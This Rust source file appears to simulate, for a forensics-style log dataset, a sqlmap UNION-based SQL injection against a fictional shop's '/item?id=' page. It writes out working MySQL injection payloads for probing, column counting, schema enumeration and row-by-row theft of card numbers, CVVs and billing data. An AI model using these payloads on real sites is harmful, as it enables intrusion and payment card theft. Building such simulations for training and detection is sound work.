//! The intruder: the requests of an injection tool of those years (sqlmap 1.0-dev with UNION queries) against `/item?id=`,
//! in the order in which it really asks, answered as the shop and its database would have answered.
//!
//! The page shows the first row only, so the tool takes one row with each request, eight at a time. Servers stumble:
//! some requests end in 499, 500, 502 or 504 and are asked again, a few rows are given up. It ends when the shop closes.

use std::net::Ipv4Addr;

use crate::calendar::SHOP_CLOSED;
use crate::dice::{Dice, Stream};
use crate::page::{Answer, Renderer, server_page};
use crate::shop::Shop;
use crate::tables::{Card, Item, items};
use crate::weblog::Hit;

const FIRST_CLIENT: Ipv4Addr = Ipv4Addr::new(203, 0, 113, 77);
/// From where the rows are taken: the second evening's address.
const SECOND_CLIENT: Ipv4Addr = Ipv4Addr::new(198, 51, 100, 203);
const TOOL: &str = "sqlmap/1.0-dev (http://sqlmap.org)";
/// The tool's disguise while it takes rows (`--random-agent`).
const DISGUISE: &str = "Mozilla/5.0 (Windows; U; Windows NT 5.1; en-US; rv:1.9.2.13) Gecko/20101203 Firefox/3.6.13";
const DATABASE: &str = "tabidata";
/// The columns that are taken, as the tool orders them: by name.
pub(crate) const TAKEN: [&str; 6] = ["bill_address", "bill_zip", "cvv", "exp", "holder", "pan"];
const TABLES: [&str; 4] = ["cards", "customers", "items", "orders"];
const COLUMNS: [(&str, &str); 9] = [
    ("id", "int(11)"),
    ("customer_id", "int(11)"),
    ("holder", "varchar(60)"),
    ("pan", "varchar(19)"),
    ("exp", "varchar(5)"),
    ("cvv", "varchar(4)"),
    ("brand", "varchar(12)"),
    ("bill_zip", "varchar(8)"),
    ("bill_address", "varchar(400)"),
];
const THREADS: usize = 8;
/// Rows each second; more where so many rows would not be taken within [`DAYS_MAX`].
const RATE: u64 = 6;
const DAYS_MAX: u64 = 3;
/// How often the tool asks for a row before it gives up.
const TRIES: u8 = 4;
/// The number of the item on whose page the tool begins.
const ITEM: u64 = 5;

/// The marks around and between values that the tool chose for this shop.
struct Marks {
    start: String,
    between: String,
    stop: String,
}

/// What the intruder does, in the order of time. Requests that brought a card record carry its place.
pub(crate) struct Attack<'a> {
    shop: &'a Shop,
    marks: Marks,
    renderer: Renderer,
    probes: std::vec::IntoIter<Hit>,
    taking: Taking,
    taking_starts_ms: i64,
}

/// A request of the intruder, and the place of the card record that it brought.
pub(crate) struct Move {
    pub(crate) hit: Hit,
    pub(crate) took: Option<u64>,
}

impl<'a> Attack<'a> {
    pub(crate) fn new(shop: &'a Shop) -> Self {
        let mut dice = shop.dice(Stream::Attack, 0);
        let marks = Marks::new(&mut dice);
        let lasts =
            Taking::new(shop).by_ref().filter(|step| step.result == StepResult::Row).last().map_or(0, |step| step.done_ms);
        let taking_starts_ms = SHOP_CLOSED * 1000 - 400 - lasts;
        let mut probing = Probing::new(&marks, dice, shop);
        probing.run();
        let offset = taking_starts_ms - 600_000 - probing.at_ms;
        probing.hits.iter_mut().for_each(|hit| hit.at_ms += offset);
        let probes = probing.hits.into_iter();
        Self { shop, renderer: Renderer::default(), probes, taking: Taking::new(shop), taking_starts_ms, marks }
    }

    fn taken(&mut self, step: Step) -> Move {
        let mut dice = self.shop.dice(Stream::Attack, (1 << 40) + step.number);
        let answer = match step.result {
            StepResult::Row => {
                let shown = self.marks.around(&values(&self.shop.card(step.place)).join(&self.marks.between));
                self.renderer.item(&shown, "", "")
            }
            StepResult::Failed(500) => self.renderer.failed(),
            StepResult::Failed(503) => self.renderer.closed(),
            StepResult::Failed(status) => server_page(status),
        };
        let inner = format!("SELECT {} FROM {DATABASE}.cards ORDER BY id LIMIT {},1", self.marks.concat(&TAKEN), step.place);
        let hit = Hit {
            at_ms: self.taking_starts_ms + step.done_ms,
            client: SECOND_CLIENT,
            method: "GET",
            target: item_target(&union(&mut dice, &format!("({inner})"))),
            answer,
            referer: "-",
            agent: DISGUISE,
        };
        Move { hit, took: (step.result == StepResult::Row).then_some(step.place) }
    }
}

impl Iterator for Attack<'_> {
    type Item = Move;

    fn next(&mut self) -> Option<Move> {
        if let Some(hit) = self.probes.next() {
            return Some(Move { hit, took: None });
        }
        let step = self.taking.next()?;
        Some(self.taken(step))
    }
}

/// The values that one request brings, in the order of [`TAKEN`].
fn values(card: &Card) -> [&str; 6] {
    [&card.bill_address, &card.bill_zip, &card.code, &card.expiry, &card.holder, &card.pan]
}

impl Marks {
    fn new(dice: &mut Dice) -> Self {
        let mut mark = |middle: usize| format!("q{}q", dice.letters(middle).to_lowercase());
        let (start, stop) = (mark(3), mark(3));
        Self { start, stop, between: dice.letters(6).to_lowercase() }
    }

    fn around(&self, text: &str) -> String {
        format!("{}{text}{}", self.start, self.stop)
    }

    /// `CONCAT(start, expression, stop)`.
    fn wrap(&self, expression: &str) -> String {
        format!("CONCAT({},{expression},{})", hex(&self.start), hex(&self.stop))
    }

    /// The tool's way to put the values of several columns into one.
    fn concat(&self, columns: &[&str]) -> String {
        let cast = |column: &&str| format!("IFNULL(CAST({} AS CHAR),0x20)", quoted(column));
        let between = format!(",{},", hex(&self.between));
        self.wrap(&columns.iter().map(cast).collect::<Vec<_>>().join(&between))
    }
}

/// `exp` is a function of the database: the tool puts it in backticks.
fn quoted(column: &str) -> String {
    if column == "exp" { "`exp`".to_owned() } else { column.to_owned() }
}

fn hex(text: &str) -> String {
    text.bytes().fold("0x".to_owned(), |hex, byte| hex + &format!("{byte:02x}"))
}

/// An injection that shows `expression` in the place of the item's name.
fn union(dice: &mut Dice, expression: &str) -> String {
    format!("-{} UNION ALL SELECT NULL,{expression},NULL,NULL-- -", dice.between(1000, 9999))
}

/// The target as the tool sends it: everything but letters, digits and `_.-` escaped.
fn item_target(id: &str) -> String {
    let mut target = String::with_capacity(id.len() * 2);
    target.push_str("/item?id=");
    for byte in id.bytes() {
        match byte {
            b'A'..=b'Z' | b'a'..=b'z' | b'0'..=b'9' | b'_' | b'.' | b'-' => target.push(char::from(byte)),
            _ => {
                const DIGITS: &[u8; 16] = b"0123456789ABCDEF";
                target.push('%');
                target.push(char::from(DIGITS[usize::from(byte >> 4)]));
                target.push(char::from(DIGITS[usize::from(byte & 15)]));
            }
        }
    }
    target
}

/// How a request for a row ended.
#[derive(Clone, Copy, Debug, PartialEq, Eq)]
enum StepResult {
    Row,
    Failed(u16),
}

/// A request for the row at `place`.
#[derive(Clone, Copy, Debug)]
struct Step {
    /// The how-manieth request this is.
    number: u64,
    place: u64,
    /// Milliseconds since the taking began.
    done_ms: i64,
    result: StepResult,
}

/// One of the tool's threads: what it asks for now and when that is answered.
#[derive(Clone, Copy, Debug)]
struct Thread {
    done_ms: i64,
    place: u64,
    tries: u8,
}

/// The course of the taking: which request asks for which row and how it ends. Knows nothing of what is in a row.
struct Taking {
    dice: Dice,
    /// Milliseconds between two requests of a thread, on average.
    pace_ms: u64,
    threads: Vec<Thread>,
    next_place: u64,
    places: u64,
    rows_left: u64,
    number: u64,
    /// The threads that go on asking after the shop has closed.
    closed: bool,
}

impl Taking {
    fn new(shop: &Shop) -> Self {
        let rows = shop.exposed();
        let rate = RATE.max(rows / (DAYS_MAX * 86_400) + 1);
        let pace_ms = THREADS as u64 * 1000 / rate;
        let mut taking = Self {
            dice: shop.dice(Stream::Attack, 1 << 40),
            pace_ms,
            threads: Vec::new(),
            next_place: 0,
            places: shop.cards,
            rows_left: rows,
            number: 0,
            closed: false,
        };
        for thread in 0..THREADS as i64 {
            taking.ask_next(thread * 37);
        }
        taking
    }

    /// A thread asks for the next row that nobody has asked for.
    fn ask_next(&mut self, at_ms: i64) {
        if self.next_place < self.places && !self.closed {
            let done_ms = at_ms + self.latency();
            self.threads.push(Thread { done_ms, place: self.next_place, tries: 1 });
            self.next_place += 1;
        }
    }

    fn latency(&mut self) -> i64 {
        self.dice.between(self.pace_ms * 6 / 10 + 1, self.pace_ms * 14 / 10 + 1).cast_signed()
    }

    /// How an answer fails, if it does: about 3 in 1,000.
    fn stumble(&mut self) -> Option<u16> {
        self.dice.chance(30).then(|| self.dice.pick(&[500, 502, 504, 504, 499, 502]))
    }

    /// The thread asks for the same row again, or gives it up while enough others are left.
    fn after_failure(&mut self, thread: Thread, status: u16) {
        let waited = if matches!(status, 504 | 499) { 30_000 } else { 0 };
        if thread.tries < TRIES || (!self.closed && self.places - self.next_place < self.rows_left + THREADS as u64) {
            let done_ms = thread.done_ms + waited + self.latency();
            self.threads.push(Thread { done_ms, tries: thread.tries + 1, ..thread });
        } else {
            self.ask_next(thread.done_ms);
        }
    }

    fn result(&mut self, thread: Thread) -> StepResult {
        if self.closed {
            return StepResult::Failed(503);
        }
        // One row in some ten thousand never comes: whatever is asked, the proxy gives up on it.
        let cursed = thread.place % 9973 == 4711;
        match self.stumble() {
            Some(status) => StepResult::Failed(status),
            None if cursed && thread.tries <= TRIES => StepResult::Failed(502),
            None => StepResult::Row,
        }
    }
}

impl Iterator for Taking {
    type Item = Step;

    fn next(&mut self) -> Option<Step> {
        let first = (0..self.threads.len()).min_by_key(|&at| (self.threads[at].done_ms, self.threads[at].place))?;
        let thread = self.threads.remove(first);
        let result = self.result(thread);
        self.number += 1;
        let step = Step { number: self.number, place: thread.place, done_ms: thread.done_ms, result };
        match result {
            StepResult::Row => {
                self.rows_left -= 1;
                self.closed = self.rows_left == 0;
                self.ask_next(thread.done_ms);
            }
            StepResult::Failed(status) => self.after_failure(thread, status),
        }
        Some(step)
    }
}

/// Everything before the rows: is there a hole, how many columns, which database, which tables.
struct Probing<'a> {
    marks: &'a Marks,
    dice: Dice,
    renderer: Renderer,
    item: Item,
    cards: u64,
    /// Milliseconds since the probing began.
    at_ms: i64,
    hits: Vec<Hit>,
}

impl<'a> Probing<'a> {
    fn new(marks: &'a Marks, dice: Dice, shop: &Shop) -> Self {
        let item = items().into_iter().find(|item| item.id == ITEM).expect("the shop rents out more than five things");
        Self { marks, dice, renderer: Renderer::default(), item, cards: shop.cards, at_ms: 0, hits: Vec::new() }
    }

    fn run(&mut self) {
        self.is_there_a_hole();
        self.how_many_columns();
        self.which_column_shows();
        self.which_database();
        self.at_ms += 1_260_000;
        self.which_tables();
    }

    fn ask(&mut self, id: &str, answer: Answer) {
        self.at_ms += self.dice.between(90, 700).cast_signed();
        self.hits.push(Hit {
            at_ms: self.at_ms,
            client: FIRST_CLIENT,
            method: "GET",
            target: item_target(id),
            answer,
            referer: "-",
            agent: TOOL,
        });
    }

    fn ask_shown(&mut self, id: &str) {
        let answer = self.renderer.item_of(&self.item);
        self.ask(id, answer);
    }

    fn ask_missing(&mut self, id: &str) {
        let answer = self.renderer.no_item();
        self.ask(id, answer);
    }

    fn ask_failing(&mut self, id: &str) {
        let answer = self.renderer.failed();
        self.ask(id, answer);
    }

    fn number(&mut self) -> u64 {
        self.dice.between(1000, 9999)
    }

    fn is_there_a_hole(&mut self) {
        self.ask_shown("5");
        self.ask_shown("5");
        let (a, b) = (self.number(), self.number());
        self.ask_missing(&format!("{a}"));
        self.ask_failing("5)(.\"'(,).,");
        self.ask_failing(&format!("5) AND {a}={b} AND ({a}={a}"));
        self.ask_missing(&format!("5 AND {a}={}", a + 1));
        self.ask_shown(&format!("5 AND {b}={b}"));
        self.ask_failing(&format!("5' AND {a}={a} AND '{}'='", "Xyzq"));
        let error = format!(
            "5 AND (SELECT {a} FROM(SELECT COUNT(*),{},FLOOR(RAND(0)*2))x FROM INFORMATION_SCHEMA.CHARACTER_SETS GROUP BY x)a)",
            self.marks.wrap(&format!("(SELECT (CASE WHEN ({a}={a}) THEN 1 ELSE 0 END))")),
        );
        self.ask_failing(&error);
        let extract =
            format!("5 AND EXTRACTVALUE({b},CONCAT(0x5c,{},(SELECT (CASE WHEN ({b}={b}) THEN 1 ELSE 0 END))))", hex("qz"));
        self.ask_failing(&extract);
        self.ask_failing("5; SELECT SLEEP(5)-- ");
        self.at_ms += 5000;
        self.ask_missing("5 AND SLEEP(5)");
    }

    fn how_many_columns(&mut self) {
        let many = self.number();
        self.ask_shown("5 ORDER BY 1-- -");
        self.ask_failing(&format!("5 ORDER BY {many}-- -"));
        for (columns, shown) in [(10, false), (6, false), (4, true), (5, false)] {
            let id = format!("5 ORDER BY {columns}-- -");
            if shown { self.ask_shown(&id) } else { self.ask_failing(&id) }
        }
    }

    /// First beside the real item, where the page shows the item; then with a number that no item has.
    fn which_column_shows(&mut self) {
        for column in [4, 3, 1, 2] {
            let word = self.dice.letters(10);
            let columns: Vec<String> =
                (1..=4).map(|at| if at == column { self.marks.wrap(&hex(&word)) } else { "NULL".to_owned() }).collect();
            self.ask_shown(&format!("5 UNION ALL SELECT {}-- -", columns.join(",")));
        }
        let (word, id) = (self.dice.letters(20), self.number());
        let first = format!("-{id} UNION ALL SELECT {},NULL,NULL,NULL-- -", self.marks.wrap(&hex(&word)));
        let answer = self.renderer.item("", "", "");
        self.ask(&first, answer);
        for length in [20, 10, 10] {
            let word = self.dice.letters(length);
            self.ask_value(&hex(&word), &word, "");
        }
    }

    /// Asks for an expression whose value is `value`.
    fn ask_value(&mut self, expression: &str, value: &str, from: &str) {
        let answer = self.renderer.item(&self.marks.around(value), "", "");
        let inner = self.marks.wrap(expression);
        let shown = format!("-{} UNION ALL SELECT NULL,{inner},NULL,NULL{from}-- -", self.number());
        self.ask(&shown, answer);
    }

    /// Asks for the row at `place` of a schema table.
    fn ask_row(&mut self, columns: &[&str], from: &str, place: usize, values: &[&str]) {
        let answer = self.renderer.item(&self.marks.around(&values.join(&self.marks.between)), "", "");
        let inner = format!("(SELECT {} FROM {from} LIMIT {place},1)", self.marks.concat(columns));
        let id = union(&mut self.dice, &inner);
        self.ask(&id, answer);
    }

    fn which_database(&mut self) {
        let (a, b) = (self.number(), self.number());
        for (condition, value) in [
            (format!("{a}={a}"), "1"),
            (format!("{a}={b}"), if a == b { "1" } else { "0" }),
            ("QUARTER(NULL) IS NULL".to_owned(), "1"),
            ("VERSION() LIKE 0x254d61726961444225".to_owned(), "1"),
        ] {
            self.ask_value(&format!("(CASE WHEN ({condition}) THEN 1 ELSE 0 END)"), value, "");
        }
        for (expression, value) in
            [("VERSION()", "5.5.30-MariaDB-log"), ("CURRENT_USER()", "shop@localhost"), ("DATABASE()", DATABASE)]
        {
            self.ask_value(&format!("IFNULL(CAST({expression} AS CHAR),0x20)"), value, "");
        }
    }

    fn which_tables(&mut self) {
        let schemata = ["information_schema", DATABASE];
        self.ask_count("schema_name", "INFORMATION_SCHEMA.SCHEMATA", schemata.len());
        for (place, name) in schemata.iter().enumerate() {
            self.ask_row(&["schema_name"], "INFORMATION_SCHEMA.SCHEMATA", place, &[name]);
        }
        let tables = format!("INFORMATION_SCHEMA.TABLES WHERE table_schema IN ({})", hex(DATABASE));
        self.ask_count("table_name", &tables, TABLES.len());
        for (place, name) in TABLES.iter().enumerate() {
            self.ask_row(&["table_name"], &tables, place, &[name]);
        }
        self.at_ms += 420_000;
        let columns = format!("INFORMATION_SCHEMA.COLUMNS WHERE table_name={} AND table_schema={}", hex("cards"), hex(DATABASE));
        self.ask_count("*", &columns, COLUMNS.len());
        for (place, (name, kind)) in COLUMNS.iter().enumerate() {
            self.ask_row(&["column_name", "column_type"], &columns, place, &[name, kind]);
        }
        self.ask_count("*", &format!("{DATABASE}.cards"), self.cards as usize);
    }

    fn ask_count(&mut self, column: &str, from: &str, count: usize) {
        self.ask_value(&format!("IFNULL(CAST(COUNT({column}) AS CHAR),0x20)"), &count.to_string(), &format!(" FROM {from}"));
    }
}

#[cfg(test)]
mod tests {
    use std::collections::HashSet;

    use super::{Attack, StepResult, Taking, item_target};
    use crate::Options;
    use crate::calendar::SHOP_CLOSED;
    use crate::shop::Shop;

    fn shop(records: u64) -> Shop {
        Shop::new(Options { records, seed: 3 })
    }

    #[test]
    fn takes_as_many_rows_as_the_story_says_whatever_the_size() {
        for records in [1, 2, 7, 10, 11, 100, 1000, 30_000] {
            let shop = shop(records);
            let rows: Vec<u64> =
                Taking::new(&shop).filter(|step| step.result == StepResult::Row).map(|step| step.place).collect();
            assert_eq!(rows.len() as u64, shop.exposed(), "{records}");
            assert_eq!(rows.iter().collect::<HashSet<_>>().len(), rows.len());
            assert!(rows.iter().all(|&place| place < records));
        }
    }

    #[test]
    fn asks_again_gives_a_few_up_and_stops_when_the_shop_closes() {
        let shop = shop(30_000);
        let moves: Vec<_> = Attack::new(&shop).collect();
        assert!(moves.is_sorted_by_key(|step| step.hit.at_ms));
        let last = moves.iter().filter(|step| step.took.is_some()).map(|step| step.hit.at_ms).max();
        assert_eq!(last, Some(SHOP_CLOSED * 1000 - 400));
        let refused = moves.iter().filter(|step| step.hit.answer.status == 503).count();
        assert!((8..60).contains(&refused), "{refused}");
        let stumbled = moves.iter().filter(|step| matches!(step.hit.answer.status, 499 | 502 | 504)).count();
        assert!(stumbled > 30, "{stumbled}");
        assert!(moves.iter().all(|step| step.took != Some(4711)));
    }

    #[test]
    fn escapes_as_the_tool_does() {
        assert_eq!(item_target("-1 UNION(0x71,`exp`)-- -"), "/item?id=-1%20UNION%280x71%2C%60exp%60%29--%20-");
    }
}
